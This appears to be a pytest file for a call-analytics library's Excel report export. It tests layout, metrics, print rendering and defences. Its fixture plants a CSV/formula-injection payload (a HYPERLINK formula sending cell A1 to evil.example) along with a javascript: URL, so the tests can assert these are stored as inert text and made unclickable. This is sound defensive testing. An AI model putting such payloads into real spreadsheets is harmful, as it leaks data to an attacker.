"""The manager's workbook, read back as a person's spreadsheet would read it.

openpyxl (not the writer) reads every sheet back; LibreOffice renders it to PDF, and the pages
go to test-artifacts/ as PNGs for a person to look at.
"""

from __future__ import annotations

import itertools
import math
import re
import shutil
import subprocess
import zipfile
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest

from callcov_analytics import ValidationError, load_calls, metrics, sandbox
from callcov_analytics._decode.frame import empty_frame
from callcov_analytics._report.workbook import (
    LABELS,
    PRINTED_EXCEPTIONS,
    SCREEN_SHEETS,
    SHEETS,
    agent_summary,
    safe_url,
)
from callcov_analytics.report import export_report

TZ = "Europe/London"
ARTIFACTS = Path(__file__).resolve().parents[1] / "test-artifacts"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'


KEYS: list[str] = []  # the sandbox's random key, to look for it in the file


@pytest.fixture(scope="module")
def df() -> Iterator[pd.DataFrame]:
    """A real load over HTTP in London time, with hostile text and links planted in it."""
    with sandbox.serve(plan="enterprise", n_analyses=700) as api:
        frame = load_calls(api.key, api.url, include_transcript=True, tz=TZ, cache=False)
        KEYS.append(api.key)
    frame.loc[0, "transcript_text"] = EVIL
    frame.loc[1, "agent_id"] = "=1+1"
    frame.loc[2, "contact_id"] = "@SUM(A1:A9)"
    failing = metrics.compliance_exceptions(frame)["id"].unique()
    rows = frame.index[frame["id"].isin(failing[:2])]
    frame.loc[rows[0], "audio_url"] = "javascript:alert(1)"
    frame.loc[rows[1], "audio_url"] = "http://insecure.example/a.wav"
    yield frame


@pytest.fixture(scope="module")
def book(df: pd.DataFrame, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return export_report(df, tmp_path_factory.mktemp("wb") / "report.xlsx")


def _table(ws: Any, top: int = 1) -> tuple[list[Any], list[list[Any]]]:
    """(header, data rows) of a sheet whose header is row ``top``."""
    rows = [list(r) for r in ws.iter_rows(min_row=top, values_only=True)]
    return rows[0], rows[1:]


def _same(cell: Any, value: Any) -> bool:
    if value is None or value is pd.NA or (isinstance(value, float) and math.isnan(value)):
        return cell is None
    if isinstance(value, float) and not isinstance(value, bool):
        return cell == pytest.approx(value, rel=1e-14, abs=1e-14)
    return bool(cell == value)


def test_sheets_in_order_summary_first_in_words(book: Path, df: pd.DataFrame) -> None:
    wb = openpyxl.load_workbook(book)
    assert wb.sheetnames == list(SHEETS)
    summary = [c for row in wb["Summary"].iter_rows(values_only=True) for c in row if c]
    text = "\n".join(map(str, summary))
    assert summary[0] == "Call compliance report"
    analysed = int(metrics.check_outcomes(df)["analysed"].sum())
    assert f"{len(df):,} calls, of which {analysed:,} analysed" in text
    exceptions = metrics.compliance_exceptions(df)
    assert f"{len(exceptions):,} exceptions on {exceptions['id'].nunique():,} calls" in text
    assert df.attrs["key_hint"] in text and TZ in text
    card = metrics.agent_scorecard(df, detail=True).set_index("agent_id")
    coach = next(line for line in summary if str(line).startswith("Most in need of coaching"))
    named = re.findall(r"(?:: |; )(\S+) \(flagged on", coach)
    ranks = card.loc[card["ranked"], "rank"].sort_values(ascending=False)
    assert len(named) == min(3, len(ranks))
    assert sorted(card.loc[named, "rank"], reverse=True) == list(ranks.iloc[: len(named)])
    for check in metrics.CHECKS:
        assert f"{LABELS[check]}: passed on " in text


def test_agent_detail_equals_the_scorecard(book: Path, df: pd.DataFrame) -> None:
    ws = openpyxl.load_workbook(book)["Agent detail"]
    header, rows = _table(ws, top=2)  # under the line that says it is for the screen
    expected = metrics.agent_scorecard(df, detail=True)
    assert header == list(expected.columns)
    assert len(rows) == len(expected)
    for row, (_, want) in zip(rows, expected.iterrows(), strict=True):
        for name, cell in zip(header, row, strict=True):
            assert _same(cell, want[name]), (want["agent_id"], name, cell, want[name])
    formats = {h: ws.cell(3, i + 1).number_format for i, h in enumerate(header)}
    assert formats["identity_verification_pass_rate"] == "0.0%_)"  # "_)": a gap on the right
    assert formats["flagged_ci_high"] == "0.0%_)"
    assert formats["calls"] == "#,##0_)"


def test_agents_ten_columns_intervals_greyed_and_lit(book: Path, df: pd.DataFrame) -> None:
    ws = openpyxl.load_workbook(book)["Agents"]
    header, rows = _table(ws, top=4)
    assert header[:10] == ["Agent", "Calls", "Analysed", *LABELS.values(), "Rank"]
    card = metrics.agent_scorecard(df, detail=True)
    summary = agent_summary(card)
    for i, (row, want) in enumerate(zip(rows, summary.itertuples(index=False), strict=True)):
        assert row[0] == want.agent_id and row[1] == want.calls and row[2] == want.analysed
        assert row[3:9] == [getattr(want, m) for m in (*metrics.CHECKS, "flagged")]
        assert all(re.fullmatch(r"[<>]?\d+% \(\d+–\d+%\)|no data", c) for c in row[3:9])
        if card["ranked"].iloc[i]:
            assert row[9] == want.rank
        else:
            assert row[9] == "not ranked"
            assert ws.cell(5 + i, 1).font.color.rgb.endswith("7F7F7F")  # greyed
    assert (~card["ranked"]).any(), "the fixture has an agent under min_calls"
    rules = [r for rng in ws.conditional_formatting for r in rng.rules]
    assert len(rules) == 3 * 6  # red, green, amber for each check and flagged
    assert all(r.type == "expression" for r in rules)
    assert ws.column_dimensions["K"].hidden  # the numbers the lights compare, grouped away


def test_exceptions_second_in_call_and_only_safe_links(book: Path, df: pd.DataFrame) -> None:
    ws = openpyxl.load_workbook(book)["Exceptions"]
    header, rows = _table(ws, top=2)
    assert header == ["Severity", f"Call time ({TZ})", "Agent", "Contact", "Check",
                      "Why it failed", "Second in the call", "Call id", "Audio"]  # fmt: skip
    expected = metrics.compliance_exceptions(df)
    assert len(rows) == len(expected)
    audio = dict(zip(df["id"], df["audio_url"], strict=True))
    links = 0
    for r, (row, want) in enumerate(zip(rows, expected.itertuples(), strict=True), start=3):
        assert row[0] == want.severity == metrics.SEVERITY[want.check]
        local = want.created.tz_convert(TZ).tz_localize(None).to_pydatetime()
        assert row[1] == local.replace(microsecond=0) or row[1] == local
        assert row[2:6] == [want.agent_id, want.contact_id, LABELS[want.check], want.detail]
        assert _same(row[6], want.at_s) and row[7] == want.id
        link = ws.cell(r, 9).hyperlink
        url = audio[want.id]
        if safe_url(url):
            links += 1
            assert link is not None and link.target == url
            # the anchor (Excel's "location") starts the player at the second in question
            assert link.location == (None if pd.isna(want.at_s) else f"t={int(want.at_s)}")
        else:
            assert link is None and row[8] == url  # shown as text, never clickable
    assert links and links < len(rows)
    first = 3 + next(i for i, v in enumerate(expected["at_s"]) if not pd.isna(v))
    assert ws.cell(first, 7).number_format == '#,##0" s"'


def test_daily_volume_is_bucketed_in_the_zone(book: Path, df: pd.DataFrame) -> None:
    ws = openpyxl.load_workbook(book)["Daily volume"]
    header, rows = _table(ws)
    assert header[0] == f"Day ({TZ})"
    days = df["created"].dt.tz_convert(TZ).dt.date.value_counts()
    seen = {row[0].date(): row[1] for row in rows if row[1]}
    assert seen == days.to_dict()
    assert ws.cell(2, 6).number_format == "[h]:mm:ss_)"
    talk = df.groupby(df["created"].dt.tz_convert(TZ).dt.date)["duration_seconds"].sum()
    for row in rows:
        seconds = row[5].total_seconds() if row[5] is not None else 0.0  # a duration cell
        assert seconds == pytest.approx(talk.get(row[0].date(), 0.0), abs=1e-3)


def test_frozen_filtered_formatted_and_never_a_formula(book: Path, df: pd.DataFrame) -> None:
    wb = openpyxl.load_workbook(book)
    for name, freeze, top in (("Agents", "B5", 4), ("Agent detail", "B3", 2),
                              ("Exceptions", "A3", 2), ("Daily volume", "B2", 1),
                              ("Calls", "B3", 2)):  # fmt: skip
        ws = wb[name]
        assert ws.freeze_panes == freeze, name
        assert ws.auto_filter.ref and ws.auto_filter.ref.startswith(f"A{top}:"), name
    calls = wb["Calls"]
    header, rows = _table(calls, top=2)
    assert len(rows) == len(df)
    cell = calls.cell(3, header.index("transcript_text") + 1)
    assert cell.value == EVIL and cell.data_type == "s"  # text, not a formula
    assert calls.cell(4, header.index("agent_id") + 1).value == "=1+1"
    created = calls.cell(3, header.index(f"created ({TZ})") + 1)
    assert created.number_format == "yyyy-mm-dd hh:mm" and isinstance(created.value, datetime)
    assert created.value == df["created"].iloc[0].tz_convert(TZ).tz_localize(None)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            assert all(c.data_type != "f" for c in row), ws.title
    with zipfile.ZipFile(book) as z:  # and in the file itself: no <f> formula element anywhere
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == len(SHEETS)
        assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)


def test_no_key_anywhere_in_the_workbook(book: Path, df: pd.DataFrame) -> None:
    with zipfile.ZipFile(book) as z:
        parts = b"".join(z.read(n) for n in z.namelist())  # uncompressed, every part
    key = KEYS[0]
    assert key.encode() not in parts and key.split("_", 2)[2].encode() not in parts
    assert df.attrs["key_hint"].encode() in parts  # the hint is there, to tell keys apart


def test_overlong_text_is_cut_with_a_note(df: pd.DataFrame, tmp_path: Path) -> None:
    small = df.head(3).copy()
    small.loc[0, "transcript_text"] = "word " * 10_000  # 50,000 characters
    path = export_report(small, tmp_path / "long.xlsx", charts=False)
    ws = openpyxl.load_workbook(path)["Calls"]
    header = [c.value for c in ws[2]]
    cell = ws.cell(3, header.index("transcript_text") + 1).value
    assert len(cell) < 32_767 and cell.startswith("word word") and cell.endswith("a cell]")


def test_safe_url() -> None:
    assert safe_url("https://storage.callcov.example/audio/a.wav")
    for bad in ("http://x.example/a", "javascript:alert(1)", "https://", "https://a b/c",
                'https://x.example/"a', "https://user:pw@x.example/a", None, 5,
                "https://x.example/" + "a" * 3000, "HTTPS://x.example/\x00"):  # fmt: skip
        assert not safe_url(bad), bad


def test_xlsx_path_is_a_file_never_a_folder(df: pd.DataFrame, tmp_path: Path) -> None:
    small = df.head(30)
    path = export_report(small, tmp_path / "rep.xlsx", charts=False)
    assert path.is_file() and zipfile.is_zipfile(path)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["rep.xlsx"]  # no temp file left
    with pytest.raises(ValidationError, match="already exists"):
        export_report(small, path)
    before = path.stat().st_mtime_ns
    export_report(small, path, overwrite=True)
    assert path.stat().st_mtime_ns >= before
    for wrong in ("rep.xls", "rep.parquet", "rep.ods"):
        with pytest.raises(ValidationError, match=r"\.xlsx workbook, a \.csv file"):
            export_report(small, tmp_path / wrong)
    with pytest.raises(ValidationError, match="parquet"):
        export_report(small, tmp_path / "other.xlsx", parquet=True)
    (tmp_path / "dir.xlsx").mkdir()
    with pytest.raises(ValidationError, match=r"is not a \.xlsx file; refusing"):
        export_report(small, tmp_path / "dir.xlsx", overwrite=True)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["dir.xlsx", "rep.xlsx"]


def test_empty_frame_makes_a_workbook_that_says_so(tmp_path: Path) -> None:
    path = export_report(empty_frame(), tmp_path / "empty.xlsx")
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == list(SHEETS)
    text = " ".join(str(c) for row in wb["Summary"].iter_rows(values_only=True) for c in row if c)
    assert "0 calls" in text and "No exceptions await review." in text
    assert [list(r) for r in wb["Calls"].iter_rows(min_row=3, values_only=True)] == []


def _boxes(pdf: Path) -> list[list[tuple[str, float, float, float, float]]]:
    """Per page, each word LibreOffice printed and its box (pdftotext -bbox)."""
    html = subprocess.run(
        ["pdftotext", "-bbox", str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout
    pages = []
    for page in html.split("<page ")[1:]:
        words = re.findall(
            r'<word xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="([\d.]+)">([^<]*)<',
            page,
        )
        pages.append([(w, float(a), float(b), float(c), float(d)) for a, b, c, d, w in words])
    return pages


@pytest.fixture(scope="module")
def printed(book: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The whole workbook printed by LibreOffice with its defaults (headless, to PDF)."""
    soffice = shutil.which("soffice")
    if soffice is None or shutil.which("pdftoppm") is None:
        pytest.fail("needs soffice and pdftoppm: run `make system-deps` (as root)")
    out = tmp_path_factory.mktemp("pdf")
    done = subprocess.run(
        [soffice, f"-env:UserInstallation=file://{out / 'lo-profile'}", "--headless",
         "--convert-to", "pdf", "--outdir", str(out), str(book)],
        capture_output=True, text=True, timeout=170, check=False,
    )  # fmt: skip
    pdf = out / "report.pdf"
    assert done.returncode == 0 and pdf.is_file(), done.stderr
    return pdf


def test_the_workbook_prints_to_a_few_pages(printed: Path, df: pd.DataFrame) -> None:
    """Each sheet's pages, from the footer LibreOffice prints, are bounded by its printed rows.

    A landscape page fitted to the width holds 30 rows or more, the header included; the two
    screen sheets print their first line, one page each.
    """
    text = subprocess.run(
        ["pdftotext", "-layout", str(printed), "-"], capture_output=True, text=True, check=True
    ).stdout
    pages: dict[str, int] = {}
    for page in text.split("\f"):
        footer = [line for line in page.splitlines() if line.strip()][-1:]
        if footer:
            name = footer[0].split("  ")[0].strip()
            pages[name] = pages.get(name, 0) + 1
    assert list(pages) == list(SHEETS), pages
    exceptions = metrics.compliance_exceptions(df)
    rows = {
        "Agents": df["agent_id"].nunique() + 4,
        "Exceptions": min(len(exceptions), PRINTED_EXCEPTIONS) + 2,
        "Daily volume": df["created"].dt.tz_convert(TZ).dt.date.nunique() + 1,
    }
    assert pages["Summary"] == 1
    for sheet, n in rows.items():
        assert pages[sheet] <= math.ceil(n / 30), (sheet, pages[sheet], n)
    assert all(pages[s] == 1 for s in SCREEN_SHEETS), pages
    assert len(exceptions) > PRINTED_EXCEPTIONS, "the fixture prints a part of the queue"
    assert f"A printout holds the first {PRINTED_EXCEPTIONS}" in text
    for words in ("Call compliance report", "In brief", "Agents: pass rate per check",
                  "Why it failed", "Calls per day by status", "for the screen"):  # fmt: skip
        assert words in text, words


def test_nothing_overprints_or_runs_together(printed: Path) -> None:
    """No two printed words overlap, and a time or a number never joins the next cell's text."""
    for number, words in enumerate(_boxes(printed), start=1):
        # A word's box spans the font's ascent and descent, so the boxes of two wrapped lines
        # meet by a point or so; two lines on top of each other share most of their height.
        words.sort(key=lambda w: w[2])
        for i, (a, ax0, ay0, ax1, ay1) in enumerate(words):
            for b, bx0, by0, bx1, by1 in words[i + 1 :]:
                if by0 >= ay1 - 0.4 * min(ay1 - ay0, by1 - by0):
                    break
                overlap = min(ax1, bx1) - max(ax0, bx0)
                assert overlap <= 0.5, f"page {number}: {a!r} overprints {b!r}"
        # Two words on one line are a space apart (about 0.2 of the box height) or further:
        # cells that run together ("15:54agent_009") were 0.15 apart.
        lines: dict[float, list[tuple[str, float, float, float, float]]] = {}
        for word in words:
            lines.setdefault(round(word[2], 1), []).append(word)
        for line in lines.values():
            line.sort(key=lambda w: w[1])
            for (a, _, ay0, ax1, ay1), (b, bx0, *_) in itertools.pairwise(line):
                gap = (bx0 - ax1) / (ay1 - ay0)
                assert gap >= 0.17, f"page {number}: {a!r} runs into {b!r} ({gap:.2f})"


def test_pages_as_pictures_for_a_person(printed: Path) -> None:
    """Every printed page as a PNG in test-artifacts/, named after its sheet."""
    ARTIFACTS.mkdir(exist_ok=True)
    for old in ARTIFACTS.glob("workbook-*.png"):
        old.unlink()
    subprocess.run(
        ["pdftoppm", "-r", "60", "-png", str(printed), str(ARTIFACTS / "workbook-page")],
        check=True,
        timeout=120,
    )
    pngs = sorted(ARTIFACTS.glob("workbook-page-*.png"))
    assert len(pngs) >= len(SHEETS)
    assert all(p.read_bytes().startswith(b"\x89PNG") for p in pngs)
